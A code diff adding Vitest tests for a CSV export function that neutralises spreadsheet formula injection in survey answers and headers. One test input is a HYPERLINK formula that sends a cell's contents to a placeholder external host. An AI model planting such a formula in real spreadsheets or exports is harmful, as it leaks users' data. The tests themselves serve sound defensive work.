@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { buildResultsCsv, csvFileName } from './results-csv';
+import { buildResultsCsv, csvFileName, neutraliseCell } from './results-csv';
 import type { SurveyField, SurveyResponse } from './types';
 
 const field = (id: string, type: string, label: string): SurveyField => ({
@@ -34,4 +34,54 @@ test('BOM, header order, every cell quoted, quotes doubled, arrays joined, CRLF'
 
 test('file name', () => {
   expect(csvFileName('abc')).toBe('survey_abc_results.csv');
+});
+
+test.each([
+  ['=HYPERLINK("http://x.example/?"&A1,"x")', `'=HYPERLINK("http://x.example/?"&A1,"x")`],
+  ['+cmd', "'+cmd"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\tTAB', "'\tTAB"],
+  ['\rCR', "'\rCR"],
+  ['＝１＋１', "'＝１＋１"],
+  ['＋81', "'＋81"],
+  ['－', "'－"],
+  ['＠x', "'＠x"],
+  ['-', "'-"],
+  ['1e308x', '1e308x'],
+])('a cell starting a formula gets a leading quote: %j', (cell, expected) => {
+  expect(neutraliseCell(cell)).toBe(expected);
+});
+
+test.each(['-5', '+3.2', '-0.5', '-1e3', '42', '', 'テキスト', "'already", 'a=b'])(
+  'plain numbers and ordinary text stay as they are: %j',
+  (cell) => {
+    expect(neutraliseCell(cell)).toBe(cell);
+  },
+);
+
+test('answers and headers are neutralised in the file, numbers kept', () => {
+  const fields = [field('a', 'text', '=見出し'), field('n', 'number', '点数')];
+  const responses: SurveyResponse[] = [
+    {
+      id: 'r1',
+      surveyId: 's',
+      answers: { a: '=HYPERLINK("x")', n: -5 },
+      submittedAt: null,
+      source: 'responses',
+    },
+    {
+      id: 'r2',
+      surveyId: 's',
+      answers: { a: ['@a', 'b'], n: '-1+1' },
+      submittedAt: null,
+      source: 'responses',
+    },
+  ];
+  expect(buildResultsCsv(fields, responses).slice(1).split('\r\n')).toEqual([
+    `"response date/time","'=見出し","点数"`,
+    `"","'=HYPERLINK(""x"")","-5"`,
+    `"","'@a, b","'-1+1"`,
+    '',
+  ]);
 });
